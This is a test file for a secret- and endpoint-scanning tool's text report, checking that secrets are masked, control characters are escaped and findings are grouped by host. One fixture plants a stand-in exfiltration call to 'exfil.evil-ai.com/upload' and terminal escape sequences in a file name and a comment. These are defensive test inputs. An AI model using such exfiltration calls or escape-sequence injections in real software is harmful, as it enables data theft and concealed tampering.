import { expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { b64, body, fake } from "../secrets/fake.ts";
import { scanDirectory } from "../scan-directory.ts";
import { renderText } from "./text.ts";

test("groups by host, shows decoded and masked context, windows long lines", async () => {
  const dir = mkdtempSync(join(tmpdir(), "trustrun-text-"));
  try {
    const key = fake("AK", "IA", body(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 77));
    writeFileSync(join(dir, "a.py"), `requests.get("https://api.acme.io/x", headers={"k": "${key}"})\n`);
    writeFileSync(join(dir, "b.txt"), Buffer.from("\ufeffhttps://u16.acme.io\n", "utf16le"));
    writeFileSync(join(dir, "c.min.js"), `${"x;".repeat(5000)}fetch("https://min.acme.io/a")`);
    const out = renderText(await scanDirectory(dir, { workers: 0 }));
    expect(out).toMatch(/^Scanned 3 files/);
    expect(out).toContain("Secrets (1)");
    expect(out).not.toContain(key);
    // The line holds the secret: withheld.
    expect(out).toContain("1 | (line withheld: it holds a secret)");
    expect(out).toContain("1 | https://u16.acme.io");
    expect(out).toMatch(/1 \| \.\.\.(x;)+fetch\("https:\/\/min\.acme\.io\/a"\)/);
    expect(out.indexOf("api.acme.io  unknown")).toBeGreaterThan(0);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("no source line shown holds a secret, a URL credential or a control character", async () => {
  const dir = mkdtempSync(join(tmpdir(), "trustrun-text-"));
  try {
    const a = ["Zq8Wm3Xr", "7Tn2Lp5Kv9Bc"].join("");
    const b = ["Zq8Wm3Xr", "7Tn2Lp5Kv9Bd"].join("");
    // Secrets found with the help of the line above: their lines are withheld.
    writeFileSync(join(dir, "deploy.yaml"), `env:\n  - name: DB_PASSWORD\n    value: "${a}"   # rotate via https://vault.acme-health.com/ui\n`);
    writeFileSync(join(dir, "vars.tf"), `variable "client_secret" {\n  default = "${b}" # https://portal.acme-health.com\n}\n`);
    // A secret found on one line, repeated on another: masked there.
    writeFileSync(join(dir, "client.py"), `import requests\nAPI_KEY = "${a}"\nr = requests.get(f"https://api.acme-health.com/v1/{API_KEY}")\nt = requests.get(sign(TOK, "${a}"))\n`);
    // A private key: none of its lines, though the URL line above and the call below show.
    const begin = ["-----BEGIN", " PRIVATE KEY-----"].join("");
    const end = ["-----END", " PRIVATE KEY-----"].join("");
    const keyBody = [body(64, b64, 401), body(64, b64, 402), body(64, b64, 403), body(30, b64, 404)];
    writeFileSync(join(dir, "pki.py"), `import requests\nKEY = """${begin}\n${keyBody.join("\n")}\n${end}"""  # https://pki.acme-health.com/ca\nrequests.get("https://pki.acme-health.com/ca")\n`);
    // A pre-signed URL: its signature is masked on the source line as in the value.
    const sig = body(64, "0123456789abcdef", 405);
    writeFileSync(join(dir, "s3.py"), `u = "https://b.s3.amazonaws.com/k.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=${sig}"\n`);
    // Escape sequences that would erase the report's lines on a terminal.
    writeFileSync(join(dir, "a\x1b[2Kb.py"), 'import requests\nrequests.post("https://exfil.evil-ai.com/upload")  # \r\x1b[2K\x1b[1A\x1b[2K\n');
    const out = renderText(await scanDirectory(dir, { workers: 0 }));
    for (const secret of [a, b, sig, ...keyBody]) expect(out).not.toContain(secret);
    expect(out).toContain("3 | (line withheld: it holds a secret)");
    expect(out).toContain("2 | (line withheld: it holds a secret)");
    expect(out).toContain('4 | t = requests.get(sign(TOK, "…[redacted 20 chars]"))');
    expect(out).toContain("7 | (line withheld: it holds a secret)");
    expect(out).toContain('8 | requests.get("https://pki.acme-health.com/ca")');
    expect(out).toContain("X-Amz-Signature=***\"");
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(out).toContain("a\\x1b[2Kb.py:2:");
    expect(out).toContain("# \\r\\x1b[2K\\x1b[1A\\x1b[2K");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a host whose findings differ in verdict says how many violate and marks each finding", async () => {
  const dir = mkdtempSync(join(tmpdir(), "trustrun-text-"));
  try {
    writeFileSync(
      join(dir, "cfg.py"),
      [
        'A = "https://contoso.openai.azure.com/openai"',
        'B = "http://contoso.openai.azure.com:8080/x"',
        'C = "https://contoso.openai.azure.com/v2"',
        'D = "http://contoso.openai.azure.com:8080/y"',
        'E = "https://api.acme.io/a"',
        'F = "http://api.acme.io:8080/b"',
        "",
      ].join("\n"),
    );
    writeFileSync(join(dir, "only.py"), 'G = "http://plain.acme.io:8080/c"\n');
    // https (443) allowed, anything else a violation.
    const out = renderText(await scanDirectory(dir, { workers: 0, verdict: (facts) => (facts.port === 443 ? "allowed" : "violation") }), { context: false });
    const group = out.slice(out.indexOf("contoso.openai.azure.com  "), out.indexOf("\n\n", out.indexOf("contoso.openai.azure.com  ")));
    expect(group.split("\n")).toEqual([
      "contoso.openai.azure.com  VIOLATION 2 of 4",
      "  cfg.py:1:6  url url/https  https://contoso.openai.azure.com/openai  [allowed]",
      "  cfg.py:2:6  url url/http  http://contoso.openai.azure.com:8080/x  [VIOLATION]",
      "  cfg.py:3:6  url url/https  https://contoso.openai.azure.com/v2  [allowed]",
      "  cfg.py:4:6  url url/http  http://contoso.openai.azure.com:8080/y  [VIOLATION]",
    ]);
    expect(out).toContain("api.acme.io  VIOLATION 1 of 2\n");
    // A group whose findings agree keeps the plain label and unmarked lines.
    expect(out).toContain("plain.acme.io  VIOLATION  (1)\n  only.py:1:6  url url/http  http://plain.acme.io:8080/c\n");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("findings in comments and docs come after those in code, marked; hosts with violations only there come after", async () => {
  const dir = mkdtempSync(join(tmpdir(), "trustrun-text-"));
  try {
    writeFileSync(join(dir, "app.py"), '# old: https://api.acme.io/v0\nBASE = "https://api.acme.io/v1"\n# https://docs-only.acme.io/x\n');
    writeFileSync(join(dir, "README.md"), "Calls https://api.acme.io/v1 and https://docs-only.acme.io/y\n");
    const out = renderText(await scanDirectory(dir, { workers: 0, verdict: () => "violation" }), { context: false });
    expect(out).toContain("5 endpoint findings (5 violations, 4 in comments or docs)");
    const body = out.slice(out.indexOf("\n\n") + 2);
    expect(body.split("\n").slice(0, 9)).toEqual([
      "api.acme.io  VIOLATION  (3)",
      "  app.py:2:9  url url/https  https://api.acme.io/v1",
      "  README.md:1:7  url url/https  https://api.acme.io/v1  (docs)",
      "  app.py:1:8  url url/https  https://api.acme.io/v0  (comment)",
      "",
      "docs-only.acme.io  VIOLATION  (2)  only in comments or docs",
      "  README.md:1:34  url url/https  https://docs-only.acme.io/y  (docs)",
      "  app.py:3:3  url url/https  https://docs-only.acme.io/x  (comment)",
      "",
    ]);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
